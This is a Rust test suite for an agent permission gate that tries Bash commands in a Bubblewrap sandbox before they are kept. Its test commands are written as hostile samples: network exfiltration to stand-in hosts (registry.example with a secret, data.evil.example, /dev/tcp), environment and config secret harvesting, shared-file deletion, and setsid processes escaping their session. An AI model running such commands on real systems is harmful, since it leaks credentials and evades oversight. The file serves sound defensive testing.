//! Attacks on `try` and `keep`: a trial that does more than it shows, and a `keep` that does something else than was shown.

use std::{
    fs,
    io::ErrorKind,
    net::TcpListener,
    os::unix::fs::symlink,
    path::{Path, PathBuf},
    time::{Duration, Instant},
};

use adapters::{Incoming, PersonAct, testing::fake::FakeRoom};
use agents::trial::TRIAL_LIMIT;
use e2e::{Bot, Cli, Setup};
use needs::needs;

const PLACES: [&str; 2] = ["worktree", "checkout"];

async fn start(workspace: &str, wall: &str) -> Bot {
    let relay = format!("[relay]\nworkspace = \"{workspace}\"\n[wall]\n{wall}");
    let bot = Setup::new(Cli::StandIn).config(&relay).committed("kept.txt", "one\n").start().await;
    bot.started().await;
    bot
}

/// Has the agent ask for a command, which is tried; returns what the question shows then.
async fn tried(room: &FakeRoom, command: &str) -> String {
    room.say(&format!("bash {command}")).await;
    room.see("may I use **Bash**").await;
    room.say("try").await;
    room.see_edit("**Tried**").await.text
}

/// Every file of a folder but git's and storkit's, with its content.
fn tree(folder: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut found = Vec::new();
    let mut folders = vec![folder.to_owned()];
    while let Some(next) = folders.pop() {
        for entry in fs::read_dir(&next).expect("a folder").map(|entry| entry.expect("an entry")) {
            let path = entry.path();
            if entry.file_name() == ".git" || entry.file_name() == ".storkit" {
                continue;
            }
            match entry.file_type().expect("a type").is_dir() {
                true => folders.push(path),
                false => found.push((path.clone(), fs::read(&path).unwrap_or_default())),
            }
        }
    }
    found.sort();
    found
}

#[tokio::test(flavor = "multi_thread")]
async fn a_trial_changes_the_true_files() {
    needs!(Bubblewrap);
    let shared = tempfile::tempdir().expect("a folder");
    fs::write(shared.path().join("data"), "true").expect("a file");
    for workspace in PLACES {
        let bot = start(workspace, &format!("writable = [\"{}\"]", shared.path().display())).await;
        let room = bot.room("a");
        let data = shared.path().join("data").display().to_string();
        let command = format!(
            "echo two >> kept.txt; mkdir -p made/deep; echo x > made/deep/file; rm {data}; echo y > {data}2; git add -A; echo z > /tmp/z; \
             echo w > ~/w; true"
        );
        room.say("bash true").await;
        room.see("Question 1**").await;
        room.say("yes 1").await;
        room.see("allowed").await;
        room.settled().await;
        let before = tree(&bot.room_folder("a"));
        let shown = tried(&room, &command).await;
        assert_eq!(tree(&bot.room_folder("a")), before, "{workspace}");
        assert_eq!(fs::read_dir(shared.path()).expect("a folder").count(), 1, "{workspace}");
        assert_eq!(fs::read(shared.path().join("data")).expect("a file"), b"true");
        for seen in ["exit 0", "2 files, +2 −0", "changed `kept.txt`", "added `made/deep/file`", "`/tmp/z`"]
        {
            assert!(shown.contains(seen), "{workspace}: {seen}: {shown}");
        }
        assert!(
            shown.contains(&format!("⚠️ deleted in a folder that is shared with it: `{data}`")),
            "{shown}"
        );
        room.say("no").await;
        room.see_edit("denied").await;
        room.settled().await;
        assert_eq!(tree(&bot.room_folder("a")), before, "{workspace}");
        bot.app.shutdown().await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_trial_reaches_the_network() {
    needs!(Bubblewrap);
    let service = TcpListener::bind("127.0.0.1:0").expect("a port");
    service.set_nonblocking(true).expect("it does not wait");
    let port = service.local_addr().expect("an address").port();
    for workspace in PLACES {
        let bot = start(workspace, "").await;
        let room = bot.room("a");
        let shown = tried(
            &room,
            &format!(
                "(exec 3<>/dev/tcp/127.0.0.1/{port}) && echo reached; \
                 python3 -c 'import urllib.request as u; u.urlopen(\"http://registry.example/x?secret\")' 2>&1 | tail -1; \
                 python3 -c 'import socket; socket.getaddrinfo(\"data.evil.example\", 80)' 2>&1 | tail -1"
            ),
        )
        .await;
        assert!(!shown.contains("\nreached"), "{workspace}: {shown}");
        assert!(shown.contains("wanted to call `registry.example:80`, which was refused"), "{shown}");
        assert_eq!(service.accept().map(drop).map_err(|error| error.kind()), Err(ErrorKind::WouldBlock));
        room.say("no").await;
        room.see_edit("denied").await;
        bot.app.shutdown().await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_trial_shows_secrets_to_the_room() {
    needs!(Bubblewrap);
    for workspace in PLACES {
        let bot = start(workspace, "variables = [\"GATEWAY_TOKEN\"]").await;
        fs::create_dir_all(bot.home().join(".claude")).expect("a folder");
        fs::write(bot.home().join(".claude/hidden"), "x").expect("a file");
        let room = bot.room("a");
        // The harness looks for its secrets in everything that a room shows.
        let shown = tried(
            &room,
            &format!(
                "env | grep -c -e TOKEN -e KEY -e ANTHROPIC; ls -a ~ ~/.claude 2>&1 | grep -c hidden; cat {} 2>&1 | wc -c; echo end",
                bot.file(".storkit/bot.toml").display()
            ),
        )
        .await;
        assert!(shown.contains("\n0\n0\n"), "{workspace}: {shown}");
        assert!(shown.contains("end"), "{workspace}: {shown}");
        room.say("no").await;
        room.see_edit("denied").await;
        bot.app.shutdown().await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn keep_writes_something_else_than_was_shown() {
    needs!(Bubblewrap);
    let outside = tempfile::tempdir().expect("a folder");
    for workspace in PLACES {
        let bot = start(workspace, "").await;
        let room = bot.room("a");
        let command = format!(
            "ln -s {} out; mkdir made; echo two > made/file; echo two >> kept.txt; echo printed",
            outside.path().display()
        );
        room.say(&format!("bash {command}")).await;
        room.see("may I use **Bash**").await;
        room.say("keep").await;
        room.see("shows no effect that you could keep").await;
        // Sent before the effect is shown: it cannot mean that.
        let early = room.incoming("ann", "keep 1");
        room.say("try 1").await;
        room.see_edit("**Tried**").await;
        room.send_incoming(early).await;
        room.see("before the effect of question 1 was shown").await;
        // Somebody changes a file that it touches.
        let at = bot.room_folder("a");
        fs::write(at.join("kept.txt"), "other\n").expect("a file");
        room.say("keep 1").await;
        room.see("`kept.txt` is not as it was when the command was tried. Nothing was changed.").await;
        assert!(!at.join("made").exists() && !at.join("out").is_symlink(), "{workspace}");
        // The way to a new file becomes a link.
        room.say("try").await;
        room.see_edit("**Tried**").await;
        symlink(outside.path(), at.join("made")).expect("a link");
        room.say("keep").await;
        room.see("`made` is not as it was").await;
        fs::remove_file(at.join("made")).expect("it was there");
        let stale = room.shown().into_iter().find(|shown| shown.text.contains("**Tried**")).expect("it").id;
        room.say("try").await;
        room.see_edit("**Tried**").await;
        // A button from before, which shows another effect.
        let act = PersonAct::Chose { on: stale, key: "q:1:keep2".into() };
        room.send_incoming(Incoming { act, ..room.incoming("ann", "") }).await;
        room.see("with another effect than you saw").await;
        room.say("keep").await;
        room.see_edit("kept what a trial of").await;
        room.see("the command has already been run once").await;
        room.settled().await;
        assert_eq!(fs::read_to_string(at.join("kept.txt")).expect("a file"), "other\ntwo\n");
        assert_eq!(fs::read_to_string(at.join("made/file")).expect("a file"), "two\n");
        assert!(at.join("out").is_symlink(), "{workspace}");
        assert_eq!(fs::read_dir(outside.path()).expect("a folder").count(), 0, "{workspace}");
        bot.app.shutdown().await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn keep_takes_over_what_is_not_the_agents() {
    needs!(Bubblewrap);
    let bot = start("worktree", "").await;
    let room = bot.room("a");
    for (number, (command, why)) in [
        ("git init -q sub", "`sub/.git`, which belongs to git or to me"),
        ("mkdir .storkit; echo x > .storkit/project.toml", "which belongs to git or to me"),
        ("echo x > x; git add x", "it changed git's data"),
        ("mkfifo pipe", "`pipe` is neither a file nor a folder nor a link"),
        ("head -c 300000000 /dev/zero > big", "⚠️ its changes did not fit into the copy"),
    ]
    .into_iter()
    .enumerate()
    {
        let shown = tried(&room, command).await;
        assert!(shown.contains(why), "{command}: {shown}");
        room.say(&format!("keep {}", number + 1)).await;
        room.see("cannot be kept").await;
        room.say(&format!("no {}", number + 1)).await;
        room.see_edit("denied").await;
        room.settled().await;
    }
    let at = bot.room_folder("a");
    assert_eq!(tree(&at).len(), 1, "only what was committed: {:?}", tree(&at));
    bot.app.shutdown().await;
}

/// The processes with this text in their command line.
fn processes(marked: &str) -> usize {
    let lines = fs::read_dir("/proc").expect("a folder").flatten();
    let lines = lines.filter_map(|entry| fs::read(entry.path().join("cmdline")).ok());
    lines.filter(|line| String::from_utf8_lossy(line).contains(marked)).count()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_trial_outlives_its_question() {
    needs!(Bubblewrap);
    let bot = start("worktree", "").await;
    let room = bot.room("a");
    for (number, answer) in ["no", "yes", "stop"].into_iter().enumerate() {
        let marked = format!("86399.{}{number}", std::process::id());
        // It leaves its session, and ends only when it is tried.
        let command = format!("[ -n \"$STORKIT_GATE\" ] || exit 0; setsid sleep {marked} & sleep {marked}");
        room.say(&format!("bash {command}")).await;
        room.see("may I use **Bash**").await;
        let begun = Instant::now();
        room.say("try").await;
        let until = Instant::now() + Duration::from_secs(60);
        while processes(&format!("sleep\0{marked}")) < 2 {
            assert!(Instant::now() < until, "{}", room.transcript());
            tokio::task::yield_now().await;
        }
        let said = if answer == "stop" { answer.to_owned() } else { format!("{answer} {}", number + 1) };
        room.say(&said).await;
        room.see_edit(&format!("Question {}", number + 1)).await;
        while processes(&format!("sleep\0{marked}")) > 0 {
            assert!(Instant::now() < until, "{answer}");
            tokio::task::yield_now().await;
        }
        // It was ended, and did not come to the end of its time.
        assert!(begun.elapsed() < TRIAL_LIMIT, "{answer}");
        room.settled().await;
    }
    assert!(!room.transcript().contains("**Tried**"), "{}", room.transcript());
    bot.app.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn somebody_without_the_right_tries_and_keeps() {
    needs!(Bubblewrap);
    let bot = Setup::new(Cli::StandIn).approvers(&["bob"]).start().await;
    let room = bot.room("a");
    room.say("bash echo x > made").await;
    room.see("may I use **Bash**").await;
    for attempt in ["try", "try 1"] {
        room.say_as("ann", attempt).await;
        room.see("you may not answer permission questions here").await;
    }
    room.say_as("bob", "try").await;
    room.see_edit("**Tried**").await;
    room.say_as("ann", "keep").await;
    room.see("you may not answer permission questions here").await;
    room.choose_as("ann", "Keep").await;
    room.see("you may not answer permission questions here").await;
    assert!(!bot.file("made").exists());
    room.choose_as("bob", "Keep").await;
    room.see_edit("kept what a trial of").await;
    assert_eq!(fs::read_to_string(bot.file("made")).expect("a file"), "x\n");
    bot.app.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_command_that_cannot_be_tried_is_tried_without_a_wall() {
    let bot = Setup::new(Cli::StandIn).config("[wall]\nconfine = \"none\"").start().await;
    let room = bot.room("a");
    room.say("bash touch made").await;
    let question = room.see("may I use **Bash**").await;
    assert!(!question.text.contains("`try`"), "{question:?}");
    room.say("try").await;
    room.see("cannot be tried: agents run without a wall here").await;
    assert!(!bot.file("made").exists());
    bot.app.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_trial_never_ends() {
    needs!(Bubblewrap);
    let bot = start("worktree", "").await;
    let room = bot.room("a");
    room.say("bash echo begun; echo x > made; [ -n \"$STORKIT_GATE\" ] || exit 0; while :; do sleep 1; done")
        .await;
    room.see("may I use **Bash**").await;
    room.say("try").await;
    let shown = room.see_edit("not finished after 20s, and ended").await.text;
    assert!(shown.contains("begun") && shown.contains("added `made`"), "{shown}");
    room.say("keep").await;
    room.see("the command did not finish").await;
    room.say("yes").await;
    room.see("begun").await;
    bot.app.shutdown().await;
}
